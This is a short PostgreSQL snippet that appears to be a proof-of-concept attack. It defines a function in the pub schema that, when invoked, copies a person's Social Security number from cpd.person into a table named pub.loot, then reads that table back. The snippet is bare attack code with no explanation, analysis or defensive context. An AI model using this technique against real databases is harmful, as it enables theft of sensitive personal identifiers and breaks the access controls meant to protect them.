CREATE OR REPLACE FUNCTION pub.more(integer, integer) RETURNS integer LANGUAGE plpgsql AS
$$ BEGIN INSERT INTO pub.loot SELECT ssn FROM cpd.person WHERE id = 1; RETURN 1; END $$;
SELECT * FROM pub.loot;
